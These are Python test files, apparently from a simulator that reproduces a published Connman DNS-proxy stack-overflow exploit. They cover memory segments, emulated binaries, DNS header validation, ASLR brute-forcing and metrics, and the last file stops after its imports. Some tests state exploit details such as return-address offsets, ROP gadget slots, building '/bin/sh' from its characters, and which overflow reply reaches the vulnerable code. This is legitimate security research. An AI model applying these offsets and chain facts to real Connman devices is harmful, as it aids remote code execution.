    def test_unmap_ambiguous_duplicate_name_raises(self):
        space = AddressSpace()
        space.map(Segment("dup", 0x1000, 0x100, Perm.RW))
        space.map(Segment("dup", 0x2000, 0x100, Perm.RW))
        with pytest.raises(ValueError, match="ambiguous"):
            space.unmap("dup")
        assert space.segment_at(0x1000).base == 0x1000
        assert space.segment_at(0x2000).base == 0x2000

    def test_unmap_unknown_name_raises_keyerror(self):
        with pytest.raises(KeyError):
            AddressSpace().unmap("ghost")

    def test_map_unmap_remap_same_base_resolves_new_segment(self):
        space = AddressSpace()
        space.map(Segment("old", 0x1000, 0x100, Perm.RW))
        space.write_u32(0x1000, 0xAAAAAAAA)  # warm the resolution memo
        assert space.segment_at(0x1000).name == "old"
        space.unmap("old")
        with pytest.raises(UnmappedAddressError):
            space.segment_at(0x1000)
        space.map(Segment("new", 0x1000, 0x100, Perm.RW))
        assert space.segment_at(0x1000).name == "new"
        assert space.read_u32(0x1000) == 0  # fresh zeroed backing


class TestOutcomeParity:
    """The cache is a pure optimization: no experiment outcome may change."""

    def _scenario_outcomes(self):
        from repro.core import PAPER_MATRIX, run_scenario

        return [run_scenario(scenario).row() for scenario in PAPER_MATRIX[:3]]

    def test_scenarios_identical_cache_on_and_off(self, monkeypatch):
        monkeypatch.setattr(DecodeCache, "enabled_by_default", True)
        with_cache = self._scenario_outcomes()
        monkeypatch.setattr(DecodeCache, "enabled_by_default", False)
        without_cache = self._scenario_outcomes()
        assert with_cache == without_cache

    def test_bruteforce_identical_cache_on_and_off(self, monkeypatch):
        from repro.exploit import BruteForceTrial, run_bruteforce_trial

        trial = BruteForceTrial(victim_seed=7, attacker_seed=8,
                                max_attempts=256, entropy_pages=16)
        monkeypatch.setattr(DecodeCache, "enabled_by_default", True)
        with_cache = run_bruteforce_trial(trial)
        monkeypatch.setattr(DecodeCache, "enabled_by_default", False)
        without_cache = run_bruteforce_trial(trial)
        assert with_cache == without_cache
        assert with_cache.succeeded
