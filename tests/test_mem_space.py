"""AddressSpace, Segment and Perm behaviour."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.mem import (
    AccessViolation,
    AddressSpace,
    Perm,
    Segment,
    SegmentationFault,
    UnmappedAddressError,
    WxViolation,
)


def make_space():
    space = AddressSpace()
    space.map_new("low", 0x1000, 0x1000, Perm.RW)
    space.map_new("high", 0x2000, 0x1000, Perm.RW)  # contiguous with low
    space.map_new("code", 0x10000, 0x1000, Perm.RX)
    space.map_new("guarded", 0x20000, 0x1000, Perm.NONE)
    return space


class TestPerm:
    def test_describe_rwx(self):
        assert Perm.RWX.describe() == "rwx"

    def test_describe_rx(self):
        assert Perm.RX.describe() == "r-x"

    def test_describe_none(self):
        assert Perm.NONE.describe() == "---"

    def test_parse_roundtrip(self):
        for perm in (Perm.NONE, Perm.R, Perm.RW, Perm.RX, Perm.RWX):
            assert Perm.parse(perm.describe()) == perm

    def test_parse_rejects_garbage(self):
        with pytest.raises(ValueError):
            Perm.parse("rq")

    def test_flag_membership(self):
        assert Perm.R in Perm.RX
        assert Perm.W not in Perm.RX


class TestSegment:
    def test_rejects_zero_size(self):
        with pytest.raises(ValueError):
            Segment("empty", 0x1000, 0, Perm.RW)

    def test_rejects_out_of_32bit_range(self):
        with pytest.raises(ValueError):
            Segment("huge", 0xFFFFF000, 0x2000, Perm.RW)

    def test_contains_boundaries(self):
        seg = Segment("s", 0x1000, 0x100, Perm.RW)
        assert seg.contains(0x1000)
        assert seg.contains(0x10FF)
        assert not seg.contains(0x1100)
        assert not seg.contains(0xFFF)

    def test_overlap_detection(self):
        a = Segment("a", 0x1000, 0x100, Perm.RW)
        b = Segment("b", 0x10FF, 0x10, Perm.RW)
        c = Segment("c", 0x1100, 0x10, Perm.RW)
        assert a.overlaps(b)
        assert not a.overlaps(c)

    def test_describe_format(self):
        seg = Segment("stack", 0x1000, 0x1000, Perm.RW)
        assert seg.describe() == "00001000-00002000 rw- stack"


class TestMapping:
    def test_overlapping_map_rejected(self):
        space = make_space()
        with pytest.raises(ValueError, match="overlaps"):
            space.map_new("bad", 0x1800, 0x1000, Perm.RW)

    def test_unmap_removes(self):
        space = make_space()
        space.unmap("guarded")
        assert not space.is_mapped(0x20000)

    def test_unmap_unknown_raises(self):
        with pytest.raises(KeyError):
            make_space().unmap("nope")

    def test_segment_lookup_by_name(self):
        assert make_space().segment("code").base == 0x10000

    def test_segment_at_faults_on_gap(self):
        with pytest.raises(UnmappedAddressError):
            make_space().segment_at(0x3000)

    def test_maps_rendering(self):
        text = make_space().maps()
        assert "00010000-00011000 r-x code" in text


class TestReadWrite:
    def test_roundtrip(self):
        space = make_space()
        space.write(0x1100, b"hello")
        assert space.read(0x1100, 5) == b"hello"

    def test_cross_segment_write_and_read(self):
        space = make_space()
        payload = bytes(range(64))
        space.write(0x2000 - 32, payload)  # spans low -> high
        assert space.read(0x2000 - 32, 64) == payload

    def test_write_into_gap_faults(self):
        space = make_space()
        with pytest.raises(UnmappedAddressError):
            space.write(0x2FF0, b"A" * 0x20)  # runs past high's end

    def test_read_requires_r(self):
        space = make_space()
        with pytest.raises(AccessViolation):
            space.read(0x20000, 1)

    def test_write_requires_w(self):
        space = make_space()
        with pytest.raises(AccessViolation):
            space.write(0x10000, b"x")

    def test_check_false_bypasses_permissions(self):
        space = make_space()
        space.write(0x10000, b"\x90", check=False)
        assert space.read(0x10000, 1, check=False) == b"\x90"

    def test_fetch_requires_x(self):
        space = make_space()
        with pytest.raises(WxViolation):
            space.fetch(0x1000, 1)

    def test_fetch_from_code_ok(self):
        space = make_space()
        space.write(0x10010, b"\xc3", check=False)
        assert space.fetch(0x10010, 1) == b"\xc3"

    def test_wx_violation_is_segfault(self):
        assert issubclass(WxViolation, SegmentationFault)

    def test_typed_u32_roundtrip(self):
        space = make_space()
        space.write_u32(0x1200, 0xDEADBEEF)
        assert space.read_u32(0x1200) == 0xDEADBEEF
        assert space.read_u16(0x1200) == 0xBEEF
        assert space.read_u8(0x1203) == 0xDE

    def test_u32_wraps_to_32_bits(self):
        space = make_space()
        space.write_u32(0x1200, 0x1_0000_0005)
        assert space.read_u32(0x1200) == 5

    def test_cstring_roundtrip(self):
        space = make_space()
        space.write_cstring(0x1300, b"/bin/sh")
        assert space.read_cstring(0x1300) == b"/bin/sh"

    def test_cstring_respects_limit(self):
        space = make_space()
        space.write(0x1300, b"A" * 64)
        assert space.read_cstring(0x1300, limit=16) == b"A" * 16


class TestFind:
    def test_find_locates_all_occurrences(self):
        space = make_space()
        space.write(0x1100, b"shshsh")
        hits = space.find(b"sh")
        assert hits[:3] == [0x1100, 0x1102, 0x1104]

    def test_find_overlapping(self):
        space = make_space()
        space.write(0x1100, b"aaa")
        assert space.find(b"aa")[:2] == [0x1100, 0x1101]

    def test_find_restricted_to_segments(self):
        space = make_space()
        space.write(0x1100, b"needle")
        space.write(0x10100, b"needle", check=False)
        assert space.find(b"needle", segment_names=["code"]) == [0x10100]


@settings(max_examples=50)
@given(offset=st.integers(min_value=0, max_value=0x1FF0),
       data=st.binary(min_size=1, max_size=64))
def test_property_write_read_roundtrip(offset, data):
    """Anything written into the contiguous region reads back identically."""
    space = AddressSpace()
    space.map_new("a", 0x1000, 0x1000, Perm.RW)
    space.map_new("b", 0x2000, 0x1000, Perm.RW)
    address = 0x1000 + min(offset, 0x2000 - len(data))
    space.write(address, data)
    assert space.read(address, len(data)) == data
