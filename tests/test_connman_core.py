"""Connman version model, frame geometry, cache, and header validation."""

import pytest

from repro.connman import (
    ARM_FRAME,
    ConnmanVersion,
    DnsCache,
    EventKind,
    FIRST_FIXED,
    LAST_VULNERABLE,
    NAME_BUFFER_SIZE,
    X86_FRAME,
    frame_model,
)
from repro.dns import build_raw_response, make_query, make_response, ResourceRecord
from tests.conftest import fresh_daemon


class TestVersion:
    def test_parse(self):
        assert ConnmanVersion.parse("1.34").tuple == (1, 34)

    def test_parse_patch_suffix_ignored(self):
        assert ConnmanVersion.parse("1.34.0").tuple == (1, 34)

    def test_parse_garbage_rejected(self):
        for bad in ("", "1", "one.two"):
            with pytest.raises(ValueError):
                ConnmanVersion.parse(bad)

    def test_vulnerability_boundary(self):
        assert LAST_VULNERABLE.is_vulnerable
        assert not FIRST_FIXED.is_vulnerable
        assert ConnmanVersion.parse("1.24").is_vulnerable
        assert not ConnmanVersion.parse("1.37").is_vulnerable

    def test_ordering(self):
        assert ConnmanVersion.parse("1.31") < ConnmanVersion.parse("1.34")

    def test_equality_with_string(self):
        assert ConnmanVersion.parse("1.34") == "1.34"

    def test_str(self):
        assert str(ConnmanVersion(1, 35)) == "1.35"


class TestFrameModels:
    def test_buffer_size_is_papers_1024(self):
        assert NAME_BUFFER_SIZE == 1024
        assert X86_FRAME.buffer_size == 1024

    def test_x86_ret_offset(self):
        # 1024 buffer + 12 locals + saved ebp.
        assert X86_FRAME.ret_offset == 1040

    def test_arm_ret_offset(self):
        # 1024 buffer + 16 locals + saved {r4-r7}.
        assert ARM_FRAME.ret_offset == 1056

    def test_arm_null_slots_inside_locals(self):
        for offset in ARM_FRAME.null_slot_offsets:
            assert NAME_BUFFER_SIZE <= offset < NAME_BUFFER_SIZE + ARM_FRAME.locals_size

    def test_arm_check_slots_match_restore_gadget_r5_r6(self):
        # pop {r0,r1,r2,r3,r5,...}: r5 pops from ret+20, r6 from ret+24.
        assert ARM_FRAME.check_slot_offsets == (20, 24)

    def test_arm_horizon_allows_sh_forbids_binsh(self):
        sh_chain = 40 * 2 + 36
        binsh_chain = 40 * 7 + 36
        assert sh_chain <= ARM_FRAME.overwrite_horizon < binsh_chain

    def test_canary_sits_below_saved_registers(self):
        for frame in (X86_FRAME, ARM_FRAME):
            assert frame.canary_offset < frame.ret_offset - frame.saved_area_size

    def test_frame_model_lookup(self):
        assert frame_model("x86") is X86_FRAME
        with pytest.raises(ValueError):
            frame_model("mips")

    def test_describe(self):
        assert "name[1024]" in X86_FRAME.describe()


class TestCache:
    def test_put_get(self):
        cache = DnsCache()
        cache.put("a.example", "1.1.1.1")
        assert cache.get("A.EXAMPLE") == "1.1.1.1"

    def test_miss(self):
        assert DnsCache().get("nope") is None

    def test_ttl_expiry(self):
        cache = DnsCache()
        cache.put("a.example", "1.1.1.1", ttl=10)
        cache.advance(11)
        assert cache.get("a.example") is None

    def test_not_expired_within_ttl(self):
        cache = DnsCache()
        cache.put("a.example", "1.1.1.1", ttl=10)
        cache.advance(9)
        assert cache.get("a.example") == "1.1.1.1"

    def test_eviction_at_capacity(self):
        cache = DnsCache(max_entries=2)
        cache.put("a", "1.1.1.1")
        cache.advance(1)
        cache.put("b", "2.2.2.2")
        cache.advance(1)
        cache.put("c", "3.3.3.3")
        assert len(cache) == 2
        assert cache.get("a") is None  # oldest evicted

    def test_eviction_prefers_expired_entry(self):
        cache = DnsCache(max_entries=2)
        cache.put("old-live", "1.1.1.1", ttl=1000)
        cache.advance(1)
        cache.put("young-dead", "2.2.2.2", ttl=5)
        cache.advance(10)  # young-dead expires; old-live still valid
        cache.put("new", "3.3.3.3")
        assert cache.get("old-live") == "1.1.1.1"  # survived despite being oldest
        assert cache.get("young-dead") is None
        assert cache.get("new") == "3.3.3.3"

    def test_eviction_falls_back_to_oldest_live(self):
        cache = DnsCache(max_entries=2)
        cache.put("a", "1.1.1.1", ttl=1000)
        cache.advance(1)
        cache.put("b", "2.2.2.2", ttl=1000)
        cache.put("c", "3.3.3.3")
        assert cache.get("a") is None  # all live: oldest goes
        assert cache.get("b") == "2.2.2.2"

    def test_overwrite_same_name_no_evict(self):
        cache = DnsCache(max_entries=1)
        cache.put("a", "1.1.1.1")
        cache.put("a", "9.9.9.9")
        assert cache.get("a") == "9.9.9.9"

    def test_clear(self):
        cache = DnsCache()
        cache.put("a", "1.1.1.1")
        cache.clear()
        assert len(cache) == 0


class TestHeaderValidation:
    """'The DNS responses must appear legitimate, otherwise Connman dumps
    the packet and never enters the vulnerable portion of code.'"""

    def overflow_reply(self, query_id=0x11, **kwargs):
        from repro.core import naive_overflow_blob

        query = make_query(query_id, "x.example")
        return build_raw_response(query, naive_overflow_blob(), **kwargs)

    def test_wrong_transaction_id_dropped(self):
        daemon = fresh_daemon("x86")
        event = daemon.handle_upstream_reply(self.overflow_reply(0x11), expected_id=0x22)
        assert event.kind == EventKind.DROPPED
        assert daemon.alive

    def test_query_bit_dropped(self):
        daemon = fresh_daemon("x86")
        query = make_query(5, "x.example")  # QR=0: not a response
        event = daemon.handle_upstream_reply(query.encode(), expected_id=5)
        assert event.kind == EventKind.DROPPED

    def test_nonzero_rcode_dropped(self):
        daemon = fresh_daemon("x86")
        query = make_query(5, "x.example")
        nxdomain = make_response(query, (), rcode=3)
        event = daemon.handle_upstream_reply(nxdomain.encode(), expected_id=5)
        assert event.kind == EventKind.DROPPED

    def test_no_answers_dropped(self):
        daemon = fresh_daemon("x86")
        query = make_query(5, "x.example")
        empty = make_response(query, ())
        event = daemon.handle_upstream_reply(empty.encode(), expected_id=5)
        assert event.kind == EventKind.DROPPED

    def test_short_packet_dropped(self):
        daemon = fresh_daemon("x86")
        event = daemon.handle_upstream_reply(b"\x00\x05\x80", expected_id=5)
        assert event.kind == EventKind.DROPPED

    def test_legitimate_header_reaches_vulnerable_code(self):
        daemon = fresh_daemon("x86")
        event = daemon.handle_upstream_reply(self.overflow_reply(0x11), expected_id=0x11)
        assert event.kind == EventKind.CRASHED

    def test_benign_response_cached(self):
        daemon = fresh_daemon("x86")
        query = make_query(9, "good.example")
        reply = make_response(query, (ResourceRecord.a("good.example", "5.6.7.8"),))
        event = daemon.handle_upstream_reply(reply.encode(), expected_id=9)
        assert event.kind == EventKind.RESPONDED
        assert daemon.cache.get("good.example") == "5.6.7.8"

    def test_aaaa_record_also_parsed(self):
        daemon = fresh_daemon("arm")
        query = make_query(10, "v6.example")
        reply = make_response(query, (ResourceRecord.aaaa("v6.example", "2001:db8::7"),))
        event = daemon.handle_upstream_reply(reply.encode(), expected_id=10)
        assert event.kind == EventKind.RESPONDED
        assert event.cached and event.cached[0][0] == "v6.example"
