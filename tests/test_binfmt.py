"""Binary images: builder, symbols, connman factory, libc, loader."""

import random

import pytest

from repro.binfmt import (
    PLT_FUNCTIONS,
    BinaryBuilder,
    build_connman,
    build_libc,
    load_process,
    relocate,
)
from repro.binfmt.section import Symbol, SymbolTable
from repro.mem import ARM_LAYOUT, X86_LAYOUT, Perm, layout_for


class TestSymbolTable:
    def test_define_and_lookup(self):
        table = SymbolTable()
        table.define(Symbol("main", 0x1000, ".text", size=32))
        assert table.address_of("main") == 0x1000
        assert "main" in table

    def test_duplicate_rejected(self):
        table = SymbolTable()
        table.define(Symbol("a", 0, ".text"))
        with pytest.raises(ValueError):
            table.define(Symbol("a", 4, ".text"))

    def test_missing_symbol_raises(self):
        with pytest.raises(KeyError):
            SymbolTable()["nope"]

    def test_resolve_finds_enclosing_function(self):
        table = SymbolTable()
        table.define(Symbol("f", 0x1000, ".text", size=16))
        table.define(Symbol("g", 0x1010, ".text", size=16))
        assert table.resolve(0x1008).name == "f"
        assert table.resolve(0x1010).name == "g"


class TestBuilder:
    def test_sections_preassigned_in_order(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        text = builder.section(".text")
        plt = builder.section(".plt")
        assert text.address == 0x400000
        assert plt.address > text.address

    def test_append_returns_placement_address(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        first = builder.append(".text", b"\x90" * 4)
        second = builder.append(".text", b"\xc3")
        assert second == first + 4

    def test_align_pads(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        builder.append(".text", b"\x90")
        assert builder.align(".text", 16) % 16 == 0

    def test_budget_enforced(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        with pytest.raises(ValueError, match="budget"):
            builder.append(".plt", b"\x00" * 0x2000)

    def test_bss_reservation(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        symbol = builder.reserve_bss("buf", 0x100)
        assert symbol.section == ".bss"
        binary = builder.link()
        assert binary.section(".bss").size == 0x100

    def test_patch_u32(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        address = builder.append(".text", b"\x00" * 8)
        builder.patch_u32(address + 4, 0x11223344)
        binary = builder.link()
        assert binary.read(address + 4, 4) == b"\x44\x33\x22\x11"

    def test_patch_outside_emitted_data_rejected(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        with pytest.raises(ValueError):
            builder.patch_u32(0x400100, 0)

    def test_double_link_rejected(self):
        builder = BinaryBuilder("t", "x86", link_base=0x400000)
        builder.append(".text", b"\xc3")
        builder.link()
        with pytest.raises(RuntimeError):
            builder.link()


class TestConnmanFactory:
    def test_plt_has_paper_facts(self, x86_binary):
        # memcpy and execlp reachable; system and strcpy absent (§III-B/C).
        assert "memcpy" in x86_binary.plt
        assert "execlp" in x86_binary.plt
        assert "system" not in x86_binary.plt
        assert "strcpy" not in x86_binary.plt
        assert "__strcpy_chk" in x86_binary.plt

    def test_all_plt_functions_present(self, arm_binary):
        assert set(arm_binary.plt) == set(PLT_FUNCTIONS)

    def test_rodata_covers_binsh_characters(self, x86_binary, arm_binary):
        for binary in (x86_binary, arm_binary):
            for char in b"/bin/sh":
                assert binary.find_bytes(bytes([char])), chr(char)

    def test_full_binsh_string_absent(self, x86_binary):
        # The ROP chain must build it character by character.
        assert not x86_binary.find_bytes(b"/bin/sh")

    def test_dnsproxy_symbols_exist(self, arm_binary):
        for name in ("parse_response", "get_name", "parse_rr",
                     "dnsproxy_event_loop", "dnsproxy_resume"):
            assert name in arm_binary.symbols

    def test_metadata_carries_version_and_seed(self):
        binary = build_connman("x86", version="1.31", seed=5)
        assert binary.metadata["version"] == "1.31"
        assert binary.metadata["seed"] == "5"

    def test_deterministic_per_seed(self):
        a = build_connman("x86", seed=3)
        b = build_connman("x86", seed=3)
        assert bytes(a.section(".text").data) == bytes(b.section(".text").data)

    def test_seeds_change_text_layout(self):
        a = build_connman("x86", seed=0)
        b = build_connman("x86", seed=1)
        assert bytes(a.section(".text").data) != bytes(b.section(".text").data)

    def test_seeds_preserve_section_bases(self):
        a = build_connman("arm", seed=0)
        b = build_connman("arm", seed=9)
        assert a.section(".bss").address == b.section(".bss").address

    def test_executable_ranges_only_x_sections(self, x86_binary):
        names = {
            x86_binary.section_at(base).name for base, _ in x86_binary.executable_ranges()
        }
        assert names == {".text", ".plt"}

    def test_read_outside_sections_raises(self, x86_binary):
        with pytest.raises(KeyError):
            x86_binary.read(0x0, 4)


class TestLibc:
    def test_exports_have_symbols(self, x86_libc):
        for name in ("system", "exit", "memcpy", "execlp", "abort"):
            assert name in x86_libc.binary.symbols
            assert name in x86_libc.natives

    def test_binsh_string_present(self, arm_libc):
        symbol = arm_libc.binary.symbols["str_bin_sh"]
        assert arm_libc.binary.read(symbol.address, 8) == b"/bin/sh\x00"

    def test_link_base_zero(self, x86_libc):
        assert x86_libc.binary.section(".text").address < 0x10000


class TestRelocate:
    def test_shifts_sections_symbols_plt(self, x86_libc):
        moved = relocate(x86_libc.binary, 0x10000000)
        original = x86_libc.binary.symbols.address_of("system")
        assert moved.symbols.address_of("system") == original + 0x10000000
        assert moved.section(".text").address == (
            x86_libc.binary.section(".text").address + 0x10000000
        )

    def test_original_untouched(self, x86_libc):
        before = x86_libc.binary.symbols.address_of("exit")
        relocate(x86_libc.binary, 0x1000)
        assert x86_libc.binary.symbols.address_of("exit") == before


class TestLoader:
    def test_maps_all_regions(self, x86_binary, x86_libc):
        loaded = load_process(x86_binary, x86_libc, X86_LAYOUT, wx_enabled=True)
        maps = loaded.process.memory.maps()
        for name in ("connman:.text", "connman:.bss", "libc:.text", "stack", "heap"):
            assert name in maps

    def test_wx_controls_stack_perms(self, arm_binary, arm_libc):
        protected = load_process(arm_binary, arm_libc, ARM_LAYOUT, wx_enabled=True)
        assert Perm.X not in protected.process.memory.segment("stack").perm
        legacy = load_process(arm_binary, arm_libc, ARM_LAYOUT, wx_enabled=False)
        assert Perm.X in legacy.process.memory.segment("stack").perm

    def test_natives_bound_at_libc_and_plt(self, x86_binary, x86_libc):
        loaded = load_process(x86_binary, x86_libc, X86_LAYOUT, wx_enabled=True)
        assert loaded.process.native_at(loaded.address_of("system")) is not None
        assert loaded.process.native_at(loaded.plt_address("memcpy")) is not None

    def test_aslr_moves_libc_binding(self, x86_binary, x86_libc):
        layout = layout_for("x86", aslr=True, rng=random.Random(3))
        loaded = load_process(x86_binary, x86_libc, layout, wx_enabled=True)
        assert loaded.address_of("system") == (
            layout.libc_base + x86_libc.binary.symbols.address_of("system")
        )

    def test_arch_mismatch_rejected(self, arm_binary, arm_libc):
        with pytest.raises(ValueError):
            load_process(arm_binary, arm_libc, X86_LAYOUT, wx_enabled=True)

    def test_symbol_lookup_order_binary_then_libc(self, x86_binary, x86_libc):
        loaded = load_process(x86_binary, x86_libc, X86_LAYOUT, wx_enabled=True)
        assert loaded.symbol("parse_response").section == ".text"
        assert loaded.symbol("system").section == ".text"
        with pytest.raises(KeyError):
            loaded.symbol("no_such_symbol")

    def test_initial_registers(self, x86_binary, x86_libc):
        loaded = load_process(x86_binary, x86_libc, X86_LAYOUT, wx_enabled=True)
        assert loaded.process.pc == x86_binary.symbols.address_of("_start")
        assert X86_LAYOUT.stack_base < loaded.process.sp < X86_LAYOUT.stack_top

    def test_bss_zero_initialized(self, x86_binary, x86_libc):
        loaded = load_process(x86_binary, x86_libc, X86_LAYOUT, wx_enabled=True)
        bss = x86_binary.symbols.address_of("__bss_start")
        assert loaded.process.memory.read(bss, 64) == b"\x00" * 64
