"""The observability layer: event bus, metrics registry, collector wiring."""

import json

import pytest

from repro.connman import ConnmanDaemon, DaemonSupervisor
from repro.connman.cache import DnsCache
from repro.core import run_chaos_point, run_chaos_sweep
from repro.defenses import WX_ASLR
from repro.dns import make_query
from repro.exploit import AslrBruteForcer
from repro.net import DNS_PORT, FaultPolicy, Host, Network
from repro.obs import Collector, EventBus, MetricsRegistry, PcapFormatError, parse_pcap_text


class TestEventBus:
    def test_emit_assigns_monotonic_seq(self):
        bus = EventBus()
        first = bus.emit("net", "packet.tx", time=1.0, bytes=10)
        second = bus.emit("fault", "fault.drop", time=2.0)
        assert (first.seq, second.seq) == (0, 1)
        assert len(bus) == 2

    def test_filters(self):
        bus = EventBus()
        bus.emit("net", "packet.tx")
        bus.emit("net", "packet.rx")
        bus.emit("cache", "cache.hit")
        assert len(bus.by_category("net")) == 2
        assert len(bus.by_kind("cache.hit")) == 1
        assert bus.kinds() == {"packet.tx": 1, "packet.rx": 1, "cache.hit": 1}

    def test_ring_limit_sheds_oldest(self):
        bus = EventBus(limit=3)
        for number in range(5):
            bus.emit("net", "packet.tx", index=number)
        assert len(bus) == 3
        assert bus.dropped == 2
        assert bus.events[0].detail["index"] == 2
        assert bus.events[0].seq == 2  # seq numbers survive the shed

    def test_subscriber_sees_every_event(self):
        bus = EventBus()
        seen = []
        bus.subscribe(seen.append)
        bus.emit("daemon", "daemon.boot")
        assert [event.kind for event in seen] == ["daemon.boot"]

    def test_json_export_parses(self):
        bus = EventBus()
        bus.emit("net", "packet.tx", time=0.5, bytes=42, fault="corrupt")
        parsed = json.loads(bus.to_json())
        assert parsed[0]["kind"] == "packet.tx"
        assert parsed[0]["detail"]["fault"] == "corrupt"


class TestMetrics:
    def test_counter_create_on_touch(self):
        registry = MetricsRegistry()
        registry.inc("faults.drop")
        registry.inc("faults.drop", 2)
        assert registry.value("faults.drop") == 3
        assert registry.value("never.touched") == 0

    def test_negative_increment_rejected(self):
        registry = MetricsRegistry()
        with pytest.raises(ValueError):
            registry.counter("x").inc(-1)

    def test_histogram_buckets_and_stats(self):
        registry = MetricsRegistry()
        for value in (0.5, 7.0, 80.0, 9000.0):
            registry.observe("latency", value)
        histogram = registry.histogram("latency")
        assert histogram.count == 4
        assert histogram.min == 0.5 and histogram.max == 9000.0
        exported = histogram.to_dict()
        assert exported["buckets"]["le_1"] == 1
        assert exported["buckets"]["le_inf"] == 1

    def test_registry_json_round_trip(self):
        registry = MetricsRegistry()
        registry.inc("a.b")
        registry.observe("c.d", 3.0)
        parsed = json.loads(registry.to_json())
        assert parsed["counters"]["a.b"] == 1
        assert parsed["histograms"][0]["name"] == "c.d"

    def test_registry_merge_mismatch_names_both_bound_tuples(self):
        left, right = MetricsRegistry(), MetricsRegistry()
        left.histogram("lat", (1.0, 10.0))
        right.histogram("lat", (1.0, 5.0))
        with pytest.raises(ValueError) as excinfo:
            left.merge(right)
        assert "(1.0, 10.0)" in str(excinfo.value)
        assert "(1.0, 5.0)" in str(excinfo.value)

    def test_registry_merge_mismatch_mutates_nothing(self):
        """A mid-merge bucket mismatch must not leave half-merged counters."""
        left, right = MetricsRegistry(), MetricsRegistry()
        left.inc("events", 3)
        left.histogram("lat", (1.0, 10.0)).observe(0.5)
        right.inc("events", 4)
        right.histogram("lat", (1.0, 5.0)).observe(0.5)
        with pytest.raises(ValueError):
            left.merge(right)
        assert left.counters() == {"events": 3}  # untouched, not 7
        assert left.histogram("lat", (1.0, 10.0)).count == 1


class TestCollectorClockAndShedding:
    def test_negative_advance_is_rejected(self):
        collector = Collector()
        collector.advance(2.0)
        with pytest.raises(ValueError, match="backwards"):
            collector.advance(-0.5)
        assert collector.clock == 2.0  # unchanged by the rejected call

    def test_advance_to_never_rewinds(self):
        collector = Collector()
        collector.advance_to(5.0)
        collector.advance_to(1.0)
        assert collector.clock == 5.0

    def test_ring_shedding_surfaces_in_metrics_and_export(self):
        collector = Collector(event_limit=3)
        for number in range(5):
            collector.emit("net", "packet.tx", index=number)
        assert collector.bus.dropped == 2
        assert collector.metrics.value("events.dropped") == 2
        exported = collector.to_dict()
        assert exported["events_dropped"] == 2
        assert exported["metrics"]["counters"]["events.dropped"] == 2
        assert "2 events dropped" in collector.summary()


class TestCollectorWiring:
    def test_network_emits_packet_events(self):
        collector = Collector()
        policy = FaultPolicy(seed=2, corrupt=1.0, observer=collector)
        network = Network("obs-lan", subnet_prefix="10.8.8", faults=policy,
                          observer=collector)
        server = Host("srv")
        network.attach(server, ip="10.8.8.1")
        server.bind_udp(DNS_PORT, lambda payload, _d: None)
        client = Host("cli")
        network.attach(client)
        client.send_udp(server.ip, DNS_PORT, make_query(1, "a.example").encode())
        kinds = collector.bus.kinds()
        assert kinds["packet.tx"] == 1
        assert kinds["packet.rx"] == 1
        assert kinds["fault.corrupt"] == 1
        assert collector.metrics.value("faults.corrupt") == 1
        tx = collector.bus.by_kind("packet.tx")[0]
        assert tx.detail["fault"] == "corrupt"

    def test_daemon_and_supervisor_emit(self):
        collector = Collector()
        daemon = ConnmanDaemon(arch="x86", profile=WX_ASLR, observer=collector)
        assert collector.bus.by_kind("daemon.boot")
        supervisor = DaemonSupervisor(daemon)  # inherits daemon.observer
        daemon.crashed = True
        supervisor.tick(5.0)
        assert supervisor.ensure_running()
        assert collector.metrics.value("supervisor.restarts") == 1
        restart = collector.bus.by_kind("supervisor.restart")[0]
        assert restart.time == supervisor.clock  # simulated-clock stamp

    def test_cache_counters(self):
        collector = Collector()
        cache = DnsCache(max_entries=2, observer=collector)
        cache.put("a", "1.1.1.1", ttl=5)
        cache.get("a")
        cache.get("b")
        cache.advance(10)
        cache.get("a")  # expired on touch
        assert collector.metrics.value("cache.hit") == 1
        assert collector.metrics.value("cache.miss") == 1
        assert collector.metrics.value("cache.expire") == 1

    def test_bruteforce_emits_stages(self):
        collector = Collector()
        victim = ConnmanDaemon(arch="x86",
                               profile=WX_ASLR.with_(aslr_entropy_pages=4),
                               observer=collector)
        result = AslrBruteForcer(victim, max_attempts=16).run()
        attempts = collector.metrics.value("exploit.attempt")
        assert attempts == result.attempts
        if result.succeeded:
            assert collector.metrics.value("exploit.success") == 1

    def test_observation_does_not_perturb_the_run(self):
        """Same seed, with and without a collector: identical ChaosCell."""
        bare = run_chaos_point(0.3, seed=77, queries=8, attack_budget=6)
        observed = run_chaos_point(0.3, seed=77, queries=8, attack_budget=6,
                                   observer=Collector())
        assert bare == observed

    def test_chaos_sweep_metrics_nonzero(self):
        collector = Collector()
        report = run_chaos_sweep((0.0, 0.4), seed=5, queries_per_rate=8,
                                 attack_budget=6, observer=collector)
        assert report.metrics is not None
        counters = report.metrics["counters"]
        assert counters.get("faults.injected", 0) > 0
        assert counters.get("supervisor.restarts", 0) > 0
        assert counters.get("cache.put", 0) > 0
        assert report.to_dict()["metrics"]["counters"] == counters
        # And the whole report (metrics included) is JSON-serializable.
        json.dumps(report.to_dict())

    def test_collector_trace_deterministic_per_seed(self):
        def trace(seed):
            collector = Collector()
            run_chaos_point(0.4, seed=seed, queries=8, attack_budget=6,
                            observer=collector)
            return collector.to_dict()

        assert trace(123) == trace(123)
        assert trace(123) != trace(124)


class TestPcapFormatErrors:
    def test_missing_header(self):
        with pytest.raises(PcapFormatError):
            parse_pcap_text("not a capture\n")

    def test_bad_record(self):
        with pytest.raises(PcapFormatError):
            parse_pcap_text("#reprocap v1 network=x packets=1\ngarbage line\n")

    def test_length_mismatch(self):
        with pytest.raises(PcapFormatError):
            parse_pcap_text("#reprocap v1 network=x packets=1\n"
                            "0 1.1.1.1:1 > 2.2.2.2:2 len=5 aa\n")

    def test_packet_count_mismatch(self):
        with pytest.raises(PcapFormatError):
            parse_pcap_text("#reprocap v1 network=x packets=3\n"
                            "0 1.1.1.1:1 > 2.2.2.2:2 len=1 aa\n")
