"""Process model, syscall layer, and native-function ABI."""

import pytest

from repro.cpu import NativeFunction, Process, make_emulator
from repro.cpu.native import NativeCallContext
from repro.cpu.syscalls import ENOSYS, dispatch
from repro.cpu.events import _EmulationStop
from repro.cpu.x86 import asm as x86
from repro.cpu.arm import asm as arm
from repro.mem import AddressSpace, Perm

